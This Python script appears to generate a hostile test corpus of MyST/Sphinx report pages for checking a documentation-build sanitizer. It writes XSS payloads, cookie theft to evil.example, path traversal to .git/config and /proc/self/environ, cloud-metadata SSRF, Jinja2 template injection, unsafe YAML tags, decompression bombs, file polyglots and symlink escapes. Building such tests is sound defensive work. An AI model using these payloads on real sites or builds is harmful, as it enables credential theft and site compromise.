# ruff: noqa: E501 - attack strings are data, kept whole
"""A second hostile pull request, written independently of the first from
the same description: a month 2020-03 of MyST, docutils and Sphinx tricks,
one attack per file (:func:`generate` writes ``tree/reports/2020-03/*`` and
``manifest.json`` into a folder)."""

import base64
import json
import shutil
import struct
import zlib
from pathlib import Path

ROOT = Path(__file__).resolve().parent
MONTH = ROOT / "tree" / "reports" / "2020-03"
REL = "tree/reports/2020-03/"
UP_ROOT = "../" * 12  # climbs from reports/2020-03 (or deeper srcdirs) to "/"
SECRET_REL = UP_ROOT + "tmp/hostile2-secret/secret.txt"
ENVIRON_REL = UP_ROOT + "proc/self/environ"
GITCONFIG = "../../.git/config"

manifest = []


def add(name, what, expect, data=None, binary=False, symlink_to=None):
    entry = {"path": REL + name, "what": what, "expect": expect}
    if symlink_to is not None:
        entry["symlink_to"] = symlink_to
    else:
        p = MONTH / name
        if binary:
            p.write_bytes(data)
        else:
            p.write_text(data, encoding="utf-8", newline="\n")
    manifest.append(entry)


_counter = [0]


def wbs(
    slug, what, body, title=None, code=None, frontmatter_extra="", heading=None, expect="refused"
):
    """A WBS-shaped page: valid front matter, heading and the three sections.

    The attack lives in `body` (under "Current accomplishments") unless the
    caller puts it into the front matter / heading.
    """
    _counter[0] += 1
    n = _counter[0]
    code = code or f"1.02C.{1 + n % 10:02d}"
    title = title or "Data Release Production"
    heading = heading or f"# {code}: {title}"
    fm = f'---\nwbs: "{code}"\ntitle: "{title}"\n{frontmatter_extra}---\n'
    text = (
        fm
        + heading
        + "\n\n## Current accomplishments\n\n"
        + "- Work on {jira}`DM-23001`.\n\n"
        + body.strip("\n")
        + "\n\n"
        + "## Planned activities\n\n- More.\n\n## Staffing update\n\n- None.\n"
    )
    add(f"h{n:02d}-{slug}.md", what, expect, text)


# ---------------------------------------------------------------- images
def png_bytes(w, h, rgb_fn, extra_chunks=b""):
    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xFFFFFFFF)

    raw = bytearray()
    for y in range(h):
        raw.append(0)
        for x in range(w):
            raw.extend(rgb_fn(x, y))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
        + extra_chunks
        + chunk(b"IDAT", zlib.compress(bytes(raw), 9))
        + chunk(b"IEND", b"")
    )


def png_chunk(t, d):
    return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xFFFFFFFF)


def bomb_png(w, h):
    """1-bit greyscale PNG of w x h zero pixels: tiny file, huge decode."""
    row = b"\x00" + b"\x00" * ((w + 7) // 8)
    co = zlib.compressobj(9)
    body = b"".join(co.compress(row) for _ in range(h)) + co.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 1, 0, 0, 0, 0))
        + png_chunk(b"IDAT", body)
        + png_chunk(b"IEND", b"")
    )


def gif_with_comment(comment: bytes):
    # 1x1 GIF89a, global colour table of 2 entries, comment extension, image.
    out = bytearray(b"GIF89a" + struct.pack("<HH", 1, 1) + bytes([0x80, 0, 0]))
    out += b"\x00\x00\x00\xff\xff\xff"
    out += b"\x21\xfe"  # comment extension
    for i in range(0, len(comment), 255):
        part = comment[i : i + 255]
        out += bytes([len(part)]) + part
    out += b"\x00"
    out += b"\x2c" + struct.pack("<HHHH", 0, 0, 1, 1) + b"\x00"
    out += b"\x02\x02\x44\x01\x00"  # LZW min code 2, one block encoding pixel 0
    out += b"\x3b"
    return bytes(out)


def jpeg_bytes():
    from io import BytesIO

    from PIL import Image

    im = Image.new("RGB", (24, 16))
    for x in range(24):
        for y in range(16):
            im.putpixel((x, y), (x * 10, y * 15, 128))
    b = BytesIO()
    im.save(b, "JPEG", quality=85)
    return b.getvalue()


def main():
    if (ROOT / "tree").exists():
        shutil.rmtree(ROOT / "tree")
    MONTH.mkdir(parents=True)

    # ============================================================ benign
    add(
        "index.md",
        "benign month index (front matter + toctree of benign pages)",
        "allowed",
        '---\nmonth: "2020-03"\ntitle: "March 2020"\nstatus: draft\n---\n'
        "# March 2020\n\n```{toctree}\n:maxdepth: 1\n\nsummary\ndata-release-production\n```\n",
    )
    add(
        "summary.md",
        "benign summary page",
        "allowed",
        "# High-level Summary\n\nDM continued work on the Data Release Production pipelines "
        "({jira}`DM-23001`, {ldm}`294`, {dmtn}`137`).\n",
    )
    add(
        "data-release-production.md",
        "benign WBS page using both benign pictures and allowed links",
        "allowed",
        '---\nwbs: "1.02C.04"\ntitle: "Data Release Production"\n---\n'
        "# 1.02C.04: Data Release Production\n\n## Current accomplishments\n\n"
        "- Work on {jira}`DM-23001`, see [the summary](summary.md) and "
        "[LSST](https://www.lsst.org/) or [mail us](mailto:dm@example.org).\n\n"
        "![Burn-down chart](ok-chart.png)\n\n```{figure} ok-photo.jpg\n:alt: Team photo\n\nThe team.\n```\n\n"
        "## Planned activities\n\n- More.\n\n## Staffing update\n\n- None.\n",
    )
    add(
        "ok-chart.png",
        "benign: real 32x20 RGB PNG",
        "allowed",
        png_bytes(32, 20, lambda x, y: (x * 8, y * 12, 200)),
        binary=True,
    )
    add("ok-photo.jpg", "benign: real 24x16 JPEG (Pillow)", "allowed", jpeg_bytes(), binary=True)

    # ============================================================ eval-rst / docutils tricks
    wbs(
        "evalrst-role-definition-raw",
        "{eval-rst} defines `.. role:: raw-html(raw)` with :format: html, then uses it inline to inject <img onerror>",
        "```{eval-rst}\n.. role:: raw-html(raw)\n   :format: html\n\n"
        'Pipeline status: :raw-html:`<img src="x" onerror="alert(document.domain)">` nominal.\n```\n',
    )
    wbs(
        "evalrst-substitution-raw",
        "{eval-rst} substitution definition `.. |status| raw:: html` carrying <script>, used as |status|",
        "```{eval-rst}\n.. |status| raw:: html\n\n   <script>fetch('https://evil.example/c?'+document.cookie)</script>\n\n"
        "Overall status: |status|\n```\n",
    )
    wbs(
        "evalrst-include-outside-secret",
        "{eval-rst} `.. include::` :literal: of /tmp/hostile2-secret/secret.txt via ../ traversal (H2-SECRET-FILE-a81c)",
        f"```{{eval-rst}}\n.. include:: {SECRET_REL}\n   :literal:\n```\n",
    )
    wbs(
        "evalrst-csv-table-url-ssrf",
        "{eval-rst} `.. csv-table:: :url:` fetching a cloud metadata endpoint at build time (SSRF; response published as table)",
        "```{eval-rst}\n.. csv-table:: Node metrics\n   :url: http://169.254.169.254/latest/meta-data/iam/security-credentials/\n```\n",
    )
    wbs(
        "evalrst-csv-table-url-file-scheme",
        "{eval-rst} `.. csv-table:: :url: file:///tmp/hostile2-secret/secret.txt` (urllib file: scheme reads outside file)",
        "```{eval-rst}\n.. csv-table:: Ingest log\n   :url: file:///tmp/hostile2-secret/secret.txt\n   :delim: |\n```\n",
    )
    wbs(
        "myst-csv-table-file-gitconfig",
        "MyST-native {csv-table} `:file: ../../.git/config` with :delim: | so each config line (incl. H2-SECRET-GIT-0f9d) becomes a cell",
        f"```{{csv-table}} Repository settings\n:file: {GITCONFIG}\n:delim: |\n```\n",
    )
    wbs(
        "evalrst-image-target-javascript",
        "{eval-rst} `.. image:: ok-chart.png` with `:target: javascript:` (allowed picture, hostile link)",
        "```{eval-rst}\n.. image:: ok-chart.png\n   :alt: burn-down\n   :target: javascript:alert(document.domain)\n```\n",
    )
    wbs(
        "evalrst-only-wrapping-raw-iframe",
        "{eval-rst} `.. only:: html` hiding a `.. raw:: html` iframe loading from another host",
        "```{eval-rst}\n.. only:: html and not latex\n\n   .. raw:: html\n\n"
        '      <iframe src="https://evil.example/embed" width="1" height="1" style="border:0"></iframe>\n```\n',
    )
    wbs(
        "evalrst-sidebar-literalinclude-environ",
        "{eval-rst} `.. sidebar::` whose body is a literalinclude of /proc/self/environ (leaks HOSTILE2_SECRET=H2-SECRET-ENV-4b2e)",
        f"```{{eval-rst}}\n.. sidebar:: Build environment\n   :subtitle: for reproducibility\n\n"
        f"   .. literalinclude:: {ENVIRON_REL}\n      :language: text\n```\n",
    )
    wbs(
        "evalrst-hyperlink-target-javascript-comment",
        "{eval-rst} named + anonymous hyperlink targets `.. _x: javascript://%0aalert(1)` (passes naive `://` URL checks)",
        "```{eval-rst}\nSee the `evidence`_ and the `dashboard <javascript://%0aalert(document.domain)>`__.\n\n"
        ".. _evidence: javascript://%0aalert(document.cookie)\n```\n",
    )
    wbs(
        "evalrst-raw-file-gitconfig",
        "{eval-rst} `.. raw:: html :file: ../../.git/config` publishes the repo config (token H2-SECRET-GIT-0f9d) verbatim",
        f"```{{eval-rst}}\n.. raw:: html\n   :file: {GITCONFIG}\n```\n",
    )
    wbs(
        "evalrst-meta-refresh",
        "{eval-rst} docutils `.. meta::` directive emitting <meta http-equiv=refresh> to javascript:/other host",
        "```{eval-rst}\n.. meta::\n   :http-equiv=refresh: 0; url=https://evil.example/phish?from=dm\n   :description: status\n```\n",
    )
    wbs(
        "evalrst-include-parser-arbitrary-import",
        "{eval-rst} `.. include:: summary.md :parser: this` - docutils imports an arbitrary module named by the page (import side effects at build time)",
        "```{eval-rst}\n.. include:: summary.md\n   :parser: this\n```\n",
    )
    wbs(
        "evalrst-substitution-remote-image",
        "{eval-rst} substitution `.. |logo| image:: https://evil.example/pixel.gif` - remote image hidden in a substitution",
        "```{eval-rst}\n.. |logo| image:: https://evil.example/pixel.gif\n   :width: 1px\n\nPowered by |logo| the pipeline.\n```\n",
    )
    deep = []
    for i in range(500):
        deep.append("  " * i + f"- level {i}\n\n")
    wbs(
        "evalrst-nested-bullets-500-deep",
        "DoS/crash: {eval-rst} 500-deep indented bullet list (docutils nested state machines -> RecursionError)",
        "```{eval-rst}\n" + "".join(deep) + "```\n",
    )

    # ============================================================ MyST directive option tricks
    wbs(
        "code-block-caption-inline-html",
        "{code-block} `:caption:` holding inline HTML (<img onerror>) - caption is parsed as inline MyST, raw HTML survives",
        "```{code-block} python\n:caption: run.py <img src=x onerror=\"alert(document.domain)\">\n\nprint('ok')\n```\n",
    )
    wbs(
        "download-role-gitconfig",
        "{download} role with explicit title pointing at ../../.git/config (publishes repo file incl. H2-SECRET-GIT-0f9d under _downloads/)",
        f"- Settings are in {{download}}`the config <{GITCONFIG}>`.\n",
    )
    wbs(
        "path-scheme-link-secret",
        "MyST `path:` scheme link to /tmp/hostile2-secret/secret.txt via traversal (turned into a download => copied into site)",
        f"- Raw notes: [notes](path:{SECRET_REL})\n",
    )
    wbs(
        "project-scheme-links",
        "MyST `<project:...>` / `[..](project:...)` links to repository files outside the month (.git/config, conf.py)",
        f"- See <project:{GITCONFIG}> and [the conf](project:../../conf.py).\n",
    )
    wbs(
        "linkref-def-entity-scheme-with-title",
        "link reference definitions whose destinations are entity-encoded javascript: (jav&#x61;script&#x3A;) and carry titles",
        "- See the [evidence][ev1] and the [dashboard][ev2].\n\n"
        '[ev1]: jav&#x61;script&#x3A;alert(document.domain) "DM-23001 evidence"\n'
        "[ev2]: <&#x6A;avascript:fetch('//evil.example/'+document.cookie)> 'dashboard'\n",
    )
    wbs(
        "angle-bracket-whitespace-smuggled-scheme",
        "`[t](<java\\tscript:...>)`, leading-space and &#10; inside scheme: browsers strip TAB/LF/leading space so href runs script",
        "- [report](<java\tscript:alert(document.domain)>)\n"
        "- [report 2](< javascript:alert(2)>)\n"
        "- [report 3](java&#10;script:alert(3))\n",
    )
    wbs(
        "angle-bracket-path-with-spaces-traversal",
        "`[t](<meeting notes/../../../.git/config>)` - nonexistent dir with spaces normalised away, local non-doc file becomes a download",
        "- [minutes](<meeting notes/../../../.git/config>)\n"
        f"- [raw minutes](<meeting notes/../{SECRET_REL}>)\n",
    )
    wbs(
        "image-inside-link-data-url",
        "allowed picture wrapped in a link whose target is data:text/html;base64 (<script>)",
        "[![chart](ok-chart.png)](data:text/html;base64,"
        + base64.b64encode(b"<script>alert(document.domain)</script>").decode()
        + ")\n",
    )
    wbs(
        "protocol-relative-image",
        "scheme-relative image `//evil.example/pixel.gif` (no http: prefix to match) in Markdown and {image}",
        "![pixel](//evil.example/pixel.gif)\n\n```{image} //evil.example/p2.png\n:alt: p2\n```\n",
    )
    wbs(
        "reference-style-remote-image",
        "reference-style image `![logo][l]` whose definition (with title) is on another host",
        '![logo][l]\n\n[l]: https://evil.example/logo.png "DM logo"\n',
    )
    wbs(
        "nested-cards-link-type-url",
        "grid-item-card (benign link) containing a nested {card} with `:link-type: url` `:link: javascript://%0a...`",
        "::::{grid} 2\n:::{grid-item-card} Outer\n:link: https://www.lsst.org/\n:link-type: url\n\n"
        "```{card} Inner\n:link: javascript://%0aalert(document.domain)\n:link-type: url\n\nInner body\n```\n:::\n::::\n",
    )
    wbs(
        "card-img-background-remote",
        "{card} `:img-background:` from another host",
        "```{card} Status\n:img-background: https://evil.example/bg.png\n\nBody.\n```\n",
    )
    wbs(
        "card-img-top-gitconfig",
        "{card} `:img-top: ../../.git/config` - image collector copies the repo config into _images/ (publishes token)",
        f"```{{card}} Config\n:img-top: {GITCONFIG}\n\nBody.\n```\n",
    )
    wbs(
        "html-image-outside-secret",
        "html_image-style `<img src=../../..../tmp/hostile2-secret/secret.txt>` (converted to image node, file copied to _images)",
        f'<img src="{SECRET_REL}" alt="burn-down" width="200">\n',
    )
    wbs(
        "button-link-entity-and-case-scheme",
        "{button-link} with entity-encoded (`jav&#x61;script:`) and mixed-case (`JaVaScRiPt:`) scheme arguments",
        "```{button-link} jav&#x61;script:alert(document.domain)\n:color: primary\n\nOpen dashboard\n```\n\n"
        "```{button-link} JaVaScRiPt:alert(2)\n\nOpen report\n```\n",
    )
    wbs(
        "dropdown-title-inline-html",
        "{dropdown} title argument with inline HTML (<img onerror>) - title is inline-parsed MyST",
        ':::{dropdown} Details <img src=x onerror="alert(document.domain)">\nHidden text.\n:::\n',
    )
    wbs(
        "tab-item-label-svg",
        "{tab-set}/{tab-item} label holding `<svg onload=...>` inline HTML",
        '::::{tab-set}\n:::{tab-item} Python <svg onload="alert(document.domain)">\nCode.\n:::\n::::\n',
    )
    wbs(
        "figure-target-data-url",
        "MyST {figure} of an allowed picture with `:target: data:text/html,...`",
        "```{figure} ok-chart.png\n:target: data:text/html,<script>alert(document.domain)</script>\n\nBurn-down.\n```\n",
    )
    wbs(
        "image-data-uri-svg",
        "{image} with an inline data:image/svg+xml URI (not a picture file in the month folder; SVG with script)",
        "```{image} data:image/svg+xml;base64,"
        + base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>').decode()
        + "\n:alt: chart\n```\n",
    )
    wbs(
        "cross-month-image",
        "pictures from ANOTHER month folder (../2020-02/...) and a site-absolute path into it; policy allows own month only",
        "![feb chart](../2020-02/chart.png)\n\n```{image} /reports/2020-02/photo.jpg\n:alt: feb\n```\n",
    )
    wbs(
        "percent-encoded-traversal",
        "percent-encoded traversal link `%2E%2E/%2E%2E/.git/config` (unquoted by MyST -> download of repo config)",
        "- [settings](%2E%2E/%2E%2E/.git/config)\n- [settings 2](..%2F..%2F.git%2Fconfig)\n",
    )
    wbs(
        "toctree-javascript-comment-url",
        "{toctree} entry `Evidence <javascript://%0aalert(..)>` - Sphinx treats `x://` entries as external URLs in the sidebar/nav",
        "```{toctree}\n:hidden:\n\nEvidence <javascript://%0aalert(document.domain)>\n```\n",
    )
    wbs(
        "attrs-inline-event-handlers",
        "attrs_inline/attrs_block: `{onerror=... style=...}` on an allowed image, link and block",
        '![chart](ok-chart.png){onerror="alert(1)" style="background:url(https://evil.example/a)"}\n\n'
        '[home](https://www.lsst.org/){onclick="alert(2)" .btn}\n\n'
        '{#x .y onmouseover="alert(3)"}\nParagraph with block attributes.\n',
    )
    wbs(
        "literalinclude-diff-outside-secret",
        "{literalinclude} of a harmless own-month file with `:diff:` naming /tmp/hostile2-secret/secret.txt (diff base is read and published)",
        f"```{{literalinclude}} summary.md\n:diff: {SECRET_REL}\n```\n",
    )
    wbs(
        "literalinclude-conf-py",
        "{literalinclude} ../../conf.py - publishes a repository file outside the month",
        "```{literalinclude} ../../conf.py\n:language: python\n```\n",
    )
    wbs(
        "include-gitconfig-start-after",
        '{include} ../../.git/config with `:start-after: [remote "origin"]` and :literal: (prints the url line with H2-SECRET-GIT-0f9d)',
        f"```{{include}} {GITCONFIG}\n:start-after: '[remote \"origin\"]'\n:literal:\n```\n",
    )
    # include chain: the included fragment holds the attack (same number as its page)
    inc_name = f"h{_counter[0] + 1:02d}-notes.inc"
    add(
        inc_name,
        "non-page fragment in the month folder holding an HTML <script> block and an {eval-rst} raw",
        "refused",
        "Notes for March.\n\n<script>alert(document.domain)</script>\n\n"
        "```{eval-rst}\n.. raw:: html\n\n   <script>alert(2)</script>\n```\n",
    )
    wbs(
        "include-chain-fragment",
        f"{{include}} of an own-month fragment ({inc_name}) whose content is the attack (page itself looks clean)",
        f"```{{include}} {inc_name}\n```\n",
    )

    wbs(
        "math-href-javascript",
        "dollarmath / {math} with MathJax `\\href{javascript:...}` (clickable script link; also MathJax from CDN = other host)",
        "Rate $\\href{javascript:alert(document.domain)}{\\text{see}}$ per night.\n\n"
        "{math}`\\href{javascript:alert(2)}{x}`\n\n```{math}\n\\href{javascript:alert(3)}{E=mc^2}\n```\n",
    )
    wbs(
        "design-icon-class-injection",
        'sphinx-design {octicon}/{fas} role: class/size fields break out of the generated SVG/span attributes (`x"onload=...`)',
        '- Alert {octicon}`alert;1em;x"onload="alert(document.domain)` and '
        '{octicon}`alert;1em"onload="alert(2)` and {fas}`spinner;x"onmouseover="alert(3)`.\n',
    )
    wbs(
        "custom-roles-explicit-target-injection",
        "project roles abused: {jira} with explicit `<javascript:...>` target, {ldm} with quote break-out, {dmtn} with ../, {milestone} with html",
        "- {jira}`DM-1 <javascript:alert(document.domain)>`\n"
        '- {ldm}`294" onmouseover="alert(2)`\n'
        "- {dmtn}`137/../../../../evil.example/x`\n"
        "- {milestone}`<img src=x onerror=alert(4)>`\n"
        "- {jirab}`DM-1 <//evil.example/>`\n",
    )
    wbs(
        "bibliography-filter-expression",
        "sphinxcontrib-bibtex {bibliography} `:filter:` Python expression (`__import__('os')...`) + {cite:alp} odd key",
        "{cite:alp}`x\" onmouseover=\"alert(1)`\n\n```{bibliography}\n:filter: __import__('os').getenv('HOSTILE2_SECRET') or True\n```\n",
    )
    wbs(
        "autodoc-arbitrary-import",
        "{automodule}/{autofunction} (sphinx.ext.autodoc, if loaded) importing arbitrary modules at build time",
        "```{automodule} antigravity\n:members:\n```\n\n```{eval-rst}\n.. autofunction:: os.getenv\n```\n",
    )
    wbs(
        "graphviz-file-argument",
        "{graphviz} with a FILE argument (../../.git/config; graphviz directive reads it) plus dot `image=` attribute to the secret",
        f'```{{graphviz}} {GITCONFIG}\n```\n\n```{{graphviz}}\ndigraph g {{ a [image="/tmp/hostile2-secret/secret.txt"]; }}\n```\n',
    )
    wbs(
        "executable-cell-directives",
        "myst-nb {code-cell} / sphinxcontrib-programoutput {command-output} asking the build to execute code and print env",
        "```{code-cell} python\nimport os; print(os.environ.get('HOSTILE2_SECRET'))\n```\n\n"
        "```{command-output} printenv HOSTILE2_SECRET\n```\n",
    )
    wbs(
        "mermaid-click-callback",
        "{mermaid} (sphinxcontrib-mermaid, if loaded) with `click` javascript callback / href; plus client-side library from CDN",
        '```{mermaid}\ngraph TD\n  A[Start] --> B[End]\n  click A "javascript:alert(document.domain)"\n  click B call alert(2)\n```\n',
    )

    # ============================================================ raw HTML variants (non-textbook)
    wbs(
        "raw-html-in-heading",
        "inline HTML (<img onerror>) inside the page H1 - propagates into nav/toctree/sidebar of every page",
        "",
        heading='# 1.02C.04: Data Release Production <img src=x onerror="alert(document.domain)">',
    )
    wbs(
        "css-remote-loads",
        "no script: inline style / <style>@import pulling from another host (tracking, CSS exfil)",
        '<div style="background:url(https://evil.example/t.png)">Status</div>\n\n'
        "<style>@import url(//evil.example/x.css); body{background:url(https://evil.example/b.png)}</style>\n",
    )
    wbs(
        "base-tag-hijack",
        "`<base href=https://evil.example/>` - rebases every relative script/link/image on the page to another host",
        '<base href="https://evil.example/">\n\nNothing to see.\n',
    )
    wbs(
        "html-named-entity-scheme",
        "raw HTML anchors using named/decimal entities inside the scheme (`javascript&colon;`, `&#106;avascript`)",
        '<a href="javascript&colon;alert(document.domain)">dashboard</a>\n'
        '<a href="&#106;avascript:alert(2)">report</a>\n',
    )
    wbs(
        "srcset-remote-picture",
        "raw <picture>/<img srcset> loading from another host (src looks local)",
        '<picture><source srcset="https://evil.example/a.webp 1x"><img src="ok-chart.png" srcset="//evil.example/b.png 2x" alt="c"></picture>\n',
    )
    wbs(
        "tilde-fence-uppercase-raw",
        "tilde-fenced `~~~{RAW} html` (directive names are case-insensitive in docutils; evades ```{raw} greps)",
        "~~~{RAW} html\n<script>alert(document.domain)</script>\n~~~\n",
    )
    wbs(
        "eval-rst-hidden-in-containers",
        "{eval-rst} raw <script> buried in blockquote > list item > {note} > indented (only found by a real parse)",
        "> - item\n>\n>   :::{note}\n>   ```{eval-rst}\n>   .. raw:: html\n>\n>      <script>alert(document.domain)</script>\n>   ```\n>   :::\n",
    )

    # ============================================================ front matter
    wbs(
        "frontmatter-myst-html-meta-refresh",
        "front matter `myst: html_meta` producing <meta http-equiv=refresh> to javascript:",
        "",
        frontmatter_extra='myst:\n  html_meta:\n    "http-equiv=refresh": "0; url=javascript:alert(document.domain)"\n'
        '    "property=og:image": "https://evil.example/og.png"\n',
    )
    wbs(
        "frontmatter-substitution-jinja-ssti",
        "front matter `myst: substitutions` + `{{ ... }}` Jinja2 SSTI reading HOSTILE2_SECRET and the secret file via cycler.__init__.__globals__",
        "- Env: {{ cycler.__init__.__globals__.os.environ.HOSTILE2_SECRET }}\n"
        "- File: {{ lipsum.__globals__['__builtins__']['open']('/tmp/hostile2-secret/secret.txt').read() }}\n"
        "- Config: {{ env.config.html_context }}\n- Sub: {{ payload }}\n",
        frontmatter_extra='myst:\n  enable_extensions: ["substitution"]\n  substitutions:\n'
        '    payload: "<script>alert(document.domain)</script>"\n',
    )
    wbs(
        "frontmatter-url-schemes-override",
        "front matter `myst: url_schemes` re-enabling javascript:, then autolink/inline javascript: links",
        "- <javascript:alert(document.domain)>\n- [x](javascript:alert(2))\n",
        frontmatter_extra='myst:\n  url_schemes: ["http", "https", "javascript", "file"]\n  all_links_external: true\n',
    )
    wbs(
        "frontmatter-title-html",
        "front matter `title:` / `wbs:` with markup that may be templated into <title>, nav or metadata",
        "",
        title="</title><script>alert(document.domain)</script>",
        code="1.02C.04</title><svg onload=alert(2)>",
        heading="# 1.02C.04: Data Release Production",
    )
    # YAML alias bomb
    bomb = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, 10):
        bomb.append(f"a{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * 9) + "]")
    wbs(
        "frontmatter-yaml-alias-bomb",
        "DoS: 'billion laughs' YAML alias expansion in front matter (9^10 nodes if anything walks/serialises it)",
        "",
        frontmatter_extra="\n".join(bomb) + "\n",
    )
    wbs(
        "frontmatter-yaml-python-tag",
        "front matter with `!!python/object/apply:os.getenv` tag (unsafe YAML loader => env leak into title)",
        "",
        frontmatter_extra='owner: !!python/object/apply:os.getenv ["HOSTILE2_SECRET"]\n'
        "extra: !!python/name:os.system\n",
    )

    # ============================================================ crash / DoS
    _counter[0] += 1
    n = _counter[0]
    add(
        f"h{n:02d}-invalid-utf8-nul.md",
        "crash: WBS page with invalid UTF-8 bytes, a NUL and a lone-surrogate encoding in the body",
        "refused",
        b'---\nwbs: "1.02C.04"\ntitle: "Data Release Production"\n---\n# 1.02C.04: Data Release Production\n\n'
        b"## Current accomplishments\n\n- Work \xff\xfe\xc3\x28 on \x00 DM-1 \xed\xa0\x80.\n\n"
        b"## Planned activities\n\n- More.\n\n## Staffing update\n\n- None.\n",
        binary=True,
    )
    fn = "".join(f"Item {i}[^f{i}]. " for i in range(10000))
    fd = "".join(f"[^f{i}]: note {i}\n" for i in range(10000))
    wbs(
        "footnotes-10k",
        "DoS: 10 000 footnote references and definitions (~400 kB)",
        fn + "\n\n" + fd,
    )
    cols, rows = 250, 200
    tbl = (
        "|"
        + "|".join("c" for _ in range(cols))
        + "|\n|"
        + "|".join("-" for _ in range(cols))
        + "|\n"
    )
    tbl += ("|" + "|".join("x" for _ in range(cols)) + "|\n") * rows
    wbs(
        "pipe-table-50k-cells",
        "DoS: one GFM pipe table with 250 columns x 200 rows = 50 000 cells (+header)",
        tbl,
    )
    depth = 300
    open_ = "".join(":" * (depth + 3 - i) + f"{{admonition}} L{i}\n" for i in range(depth))
    close = "".join(":" * (4 + i) + "\n" for i in range(depth))
    wbs(
        "colon-fence-admonitions-300-deep",
        "DoS/crash: 300 nested {admonition}s via colon fences of decreasing length (recursion depth)",
        open_ + "core\n" + close,
    )
    wbs(
        "blockquote-list-nesting-deep",
        "DoS: 5000-deep blockquote and 2000-deep nested list markers on one line each",
        ">" * 5000
        + " deep\n\n"
        + "- " * 2000
        + "deep\n\n"
        + "[" * 20000
        + "x"
        + "]" * 20000
        + "\n",
    )

    # ============================================================ non-page files
    add(
        "index.md.png",
        "name confusion: `index.md.png` is not a PNG at all; holds Markdown/HTML with <script>",
        "refused",
        "# March 2020\n\n<script>alert(document.domain)</script>\n",
    )
    add(
        "summary.md ",
        "name confusion: `summary.md ` (trailing space) shadowing summary.md; holds {eval-rst} raw script",
        "refused",
        "# High-level Summary\n\n```{eval-rst}\n.. raw:: html\n\n   <script>alert(document.domain)</script>\n```\n",
    )
    add(
        "status-chart.PNG",
        "uppercase .PNG extension whose bytes are an SVG with onload script",
        "refused",
        '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(document.domain)">'
        "<script>alert(2)</script></svg>\n",
    )
    add(
        "team-photo.gif",
        "valid 1x1 GIF89a whose Comment Extension holds an HTML <script> payload (GIF/HTML polyglot)",
        "refused",
        gif_with_comment(b"<html><body><script>alert(document.domain)</script></body></html>"),
        binary=True,
    )
    add(
        "burndown-bomb.png",
        "decompression bomb: valid 1-bit PNG declaring 20000x20000 px (400 Mpx) in ~60 kB",
        "refused",
        bomb_png(20000, 20000),
        binary=True,
    )
    add(
        "chart-appended.png",
        "valid PNG with an HTML <script> page appended after IEND (trailing-data polyglot)",
        "refused",
        png_bytes(8, 8, lambda x, y: (255, 0, 0))
        + b"<html><script>alert(document.domain)</script></html>",
        binary=True,
    )
    add(
        "chart-text-chunk.png",
        "valid PNG whose tEXt/iTXt chunks carry HTML and an SVG payload (metadata smuggling)",
        "refused",
        png_bytes(
            8,
            8,
            lambda x, y: (0, 255, 0),
            png_chunk(b"tEXt", b"Comment\x00<script>alert(document.domain)</script>")
            + png_chunk(b"iTXt", b"XML:com.adobe.xmp\x00\x00\x00\x00\x00<svg onload=alert(2)/>"),
        ),
        binary=True,
    )
    add(
        "x'\"><svg onload=alert(1)>.png",
        "valid PNG whose FILE NAME contains quotes and markup (attribute/HTML injection via filename in listings/alt/src)",
        "refused",
        png_bytes(4, 4, lambda x, y: (0, 0, 255)),
        binary=True,
    )
    add(
        "photo.webp",
        "`.webp` extension but content is an HTML page with script (no RIFF/WEBP magic)",
        "refused",
        "<!doctype html><html><body><script>alert(document.domain)</script></body></html>\n",
    )
    add(
        "photo.jpg.html",
        "double-extension file: HTML page named like a picture (would be published verbatim if copied)",
        "refused",
        "<script>alert(document.domain)</script>\n",
    )

    # ============================================================ symlinks (described only, not created)
    add(
        "system-management.md",
        "symlink: WBS page slot pointing at the outside secret file",
        "refused",
        symlink_to="/tmp/hostile2-secret/secret.txt",
    )
    add(
        "square.md",
        "symlink: WBS page slot pointing at /proc/self/environ (env secret)",
        "refused",
        symlink_to="/proc/self/environ",
    )
    add(
        "evidence.png",
        "symlink: picture name pointing at the repository .git/config (token)",
        "refused",
        symlink_to="../../.git/config",
    )
    add(
        "attachments",
        "symlink: directory in the month folder pointing at /tmp/hostile2-secret (whole dir)",
        "refused",
        symlink_to="/tmp/hostile2-secret",
    )
    add(
        "dm-science.md",
        "symlink: relative link escaping via the previous month to the repository conf.py",
        "refused",
        symlink_to="../2020-02/../../conf.py",
    )

    (ROOT / "manifest.json").write_text(json.dumps(manifest, indent=2, ensure_ascii=False) + "\n")


def generate(folder: str) -> list[dict]:
    """Write the corpus under ``folder``; returns its manifest."""
    global ROOT, MONTH
    ROOT = Path(folder)
    MONTH = ROOT / "tree" / "reports" / "2020-03"
    manifest.clear()
    main()
    return list(manifest)
